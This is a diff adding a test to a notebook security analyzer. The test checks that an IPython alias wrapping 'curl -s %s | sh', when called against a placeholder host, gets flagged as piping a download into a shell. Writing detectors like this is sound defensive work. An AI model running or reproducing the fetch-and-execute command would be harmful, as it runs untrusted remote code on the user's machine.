@@ -150,6 +150,25 @@ describe('analyzeCell', () => {
     );
   });
 
+  it('reads an IPython alias defined in an earlier cell as the shell line it runs (R13-17)', () => {
+    const cells = [
+      '%alias get curl -s %s | sh',
+      'import os\n%get https://x.example/i.sh',
+      'get https://x.example/i.sh'
+    ];
+    const found = analyzeNotebook(cells);
+    expect(found.map(ids)).toEqual([
+      [],
+      ['shell-pipe-to-interpreter'],
+      ['shell-pipe-to-interpreter']
+    ]);
+    expect(cells[1].slice(found[1][0].from, found[1][0].to)).toBe(
+      '%get https://x.example/i.sh'
+    );
+    // a cell read alone (the editor's inline check) has no notebook alias table
+    expect(analyzeCell(cells[1]).findings).toEqual([]);
+  });
+
   it('points shell findings at the exact text in the cell', () => {
     const code = 'import os\n!pip install --trusted-host pypi.internal pkg';
     const [f] = analyzeCell(code).findings;
